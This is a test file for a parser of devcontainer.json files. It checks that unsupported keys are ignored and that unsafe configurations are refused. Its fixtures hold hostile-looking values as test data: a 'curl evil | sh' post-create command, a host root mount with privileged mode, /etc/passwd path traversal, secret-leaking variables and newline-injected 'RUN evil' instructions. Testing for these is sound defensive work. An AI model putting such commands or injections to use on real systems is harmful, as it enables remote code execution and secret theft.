import { unwrap } from '@agentcompany/protocol';
import { describe, expect, it } from 'vitest';
import { readDevcontainer } from './read-devcontainer.ts';

const file = '.devcontainer/devcontainer.json';
const read = (text: string) => unwrap(readDevcontainer(file, text));
const problemOf = (text: string): string => {
  const result = readDevcontainer(file, text);
  if (result.ok) throw new Error('it was taken');
  expect(result.error.code).toBe('AC_DEVCONTAINER_INVALID');
  return result.error.message;
};

describe('a devcontainer.json', () => {
  it('is JSON with comments and trailing commas; what is not done is named', () => {
    const text = `{
      // a comment
      "name": "App", "image": "debian:12", /* another */
      "features": {"ghcr.io/x": {}}, "postCreateCommand": "curl evil | sh", "mounts": ["source=/,target=/host"],
      "runArgs": ["--privileged"], "remoteUser": "root", "containerEnv": {"LANG": "C"}, "customizations": {},
    }`;
    expect(read(text)).toEqual({
      base: { kind: 'image', reference: 'debian:12' },
      environment: { LANG: 'C' },
      ignored: ['features', 'postCreateCommand', 'mounts', 'runArgs', 'remoteUser'],
    });
  });

  it('names a Dockerfile and a context by where it lies itself', () => {
    const build = { dockerfile: 'Dockerfile', context: '..', args: { A: '1' }, target: 'dev', cacheFrom: 'x' };
    expect(read(JSON.stringify({ build }))).toEqual({
      base: {
        kind: 'dockerfile',
        dockerfile: '.devcontainer/Dockerfile',
        context: '',
        args: { A: '1' },
        target: 'dev',
      },
      environment: {},
      ignored: ['build.cacheFrom'],
    });
    expect(unwrap(readDevcontainer('.devcontainer.json', '{"build":{"dockerfile":"D"}}')).base).toMatchObject({
      dockerfile: 'D',
      context: '',
    });
  });

  it.each([
    ['{', 'not JSON'],
    ['[]', 'expected'],
    ['{}', 'neither image'],
    ['{"image":"a","build":{"dockerfile":"D"}}', 'both'],
    ['{"dockerComposeFile":"c.yml","image":"a"}', 'dockerComposeFile'],
    ['{"build":{"dockerfile":"../../etc/passwd"}}', 'build.dockerfile'],
    ['{"build":{"dockerfile":"/etc/passwd"}}', 'build.dockerfile'],
    ['{"build":{"dockerfile":"D","context":"../.."}}', 'build.context'],
    ['{"image":"${localEnv:SECRET}"}', 'variables'],
    ['{"image":"a","containerEnv":{"A":"${localEnv:SECRET}"}}', 'variables'],
    ['{"build":{"dockerfile":"D","args":{"A":"${localEnv:SECRET}"}}}', 'variables'],
    ['{"image":"a","containerEnv":{"A":"one\\nRUN evil"}}', 'a line of text'],
    ['{"image":"a","containerEnv":{"A=1\\nRUN evil":"x"}}', 'Invalid key'],
    ['{"build":{"dockerfile":"D","args":{"A B":"x"}}}', 'Invalid key'],
  ])('%s is refused', (text, named) => expect(problemOf(text)).toContain(named));
});
